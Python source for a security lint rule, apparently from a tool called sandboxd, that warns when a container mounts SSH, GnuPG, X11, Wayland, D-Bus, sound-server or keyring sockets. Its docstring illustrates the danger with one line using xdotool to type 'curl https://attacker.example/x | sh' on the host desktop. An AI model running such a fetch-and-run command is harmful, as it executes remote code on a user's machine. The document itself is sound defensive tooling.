"""A socket of the desktop or of a key agent is mounted.

## What it is

A mount of the SSH or GnuPG agent's socket, of D-Bus, of the display server (`/tmp/.X11-unix`,
Wayland), of the sound server or of a keyring.

## Why it is bad

Programs on the other side do what they are asked. Through X11 everything typed is read and
anything can be typed, into a terminal of the host, too. An SSH agent signs logins as you for as
long as the container runs. D-Bus starts programs in your session.

    xdotool key alt+F2; xdotool type "curl https://attacker.example/x | sh"    # on your desktop

## What to do instead

Let the editor forward the SSH agent, and only while you push. For windows use a display of the
container's own (`Xvfb`, the `desktop-lite` Feature), or Wayland through `waypipe`.

## Under gVisor

gVisor does not connect to sockets of the host; it is a hint, as long as `host-uds` is off.
Seen with runsc 20240729.

## References

- https://wiki.archlinux.org/title/Xorg#Isolation
- https://code.visualstudio.com/remote/advancedcontainers/sharing-git-credentials
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from sandboxd.findings import Remedy, Remove, RuleMeta, Severity
from sandboxd.rules._finding import at_value
from sandboxd.rules._mounts import host_mounts, within_workspace
from sandboxd.rules._needs import Mentions
from sandboxd.rules._runtime import host_sockets_open, shares_kernel

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandboxd.findings import Finding
    from sandboxd.host.facts import HostFacts
    from sandboxd.model.container import Container

META = RuleMeta(
    id="agent-socket-mounted",
    summary="a socket of the desktop or of a key agent is mounted",
    severity=Severity.WARNING,
    since="0.1.0",
    why="programs of your session do what they are asked: type, sign, start",
    needs=(
        Mentions("mounts", "SSH_AUTH_SOCK"),
        Mentions("mounts", "ssh-agent"),
        Mentions("mounts", "ssh-auth.sock"),
        Mentions("mounts", "gpg-agent"),
        Mentions("mounts", ".X11-unix"),
        Mentions("mounts", "/dbus"),
        Mentions("mounts", "DBUS_SESSION_BUS"),
        Mentions("mounts", "/bus"),
        Mentions("mounts", "wayland-"),
        Mentions("mounts", "WAYLAND_DISPLAY"),
        Mentions("mounts", "wslg"),
        Mentions("mounts", "pulse"),
        Mentions("mounts", "pipewire"),
        Mentions("mounts", "keyring"),
        Mentions("mounts", "systemd/private"),
        Mentions("mounts", "agent.sock"),
    ),
)


_SOCKETS = (
    ("SSH_AUTH_SOCK", "the SSH agent"),
    ("ssh-agent", "the SSH agent"),
    ("ssh-auth.sock", "the SSH agent"),
    ("S.gpg-agent", "the GnuPG agent"),
    (".X11-unix", "the display server: keys can be read and typed"),
    ("/run/dbus", "D-Bus"),
    ("DBUS_SESSION_BUS", "D-Bus"),
    ("wayland-", "the display server"),
    ("WAYLAND_DISPLAY", "the display server"),
    ("/wslg", "the display server of WSL"),
    ("pulse", "the sound server, microphone included"),
    ("pipewire", "the sound server, microphone included"),
    ("/keyring", "the keyring"),
    ("/run/systemd/private", "systemd"),
    ("1password/agent.sock", "the 1Password agent"),
)


def check(subject: Container, host: HostFacts) -> Iterator[Finding]:
    reached = shares_kernel(subject, host) or host_sockets_open(subject, host)
    for mount, path in host_mounts(subject, host):
        socket = _socket(path)
        if not socket or within_workspace(mount, path, subject):
            continue
        yield at_value(
            META,
            mount,
            f"`{mount.written}` connects the container to {socket}",
            path,
            Severity.WARNING if reached else Severity.HINT,
            (
                Remedy(
                    "remove the mount",
                    safe=False,
                    changes=(Remove(mount),),
                    caution=f"what uses `{mount.value.target}` inside stops working",
                ),
            ),
        )


def _socket(path: str) -> str:
    """The agent that listens at `path`, '' for none that is known."""
    if path.split("/")[1:3] == ["run", "user"] and path.endswith("/bus"):
        return "D-Bus"
    for name, what in _SOCKETS:
        if name in path and not path.endswith((".conf", "/cookie", ".pa")):
            return what
    return ""
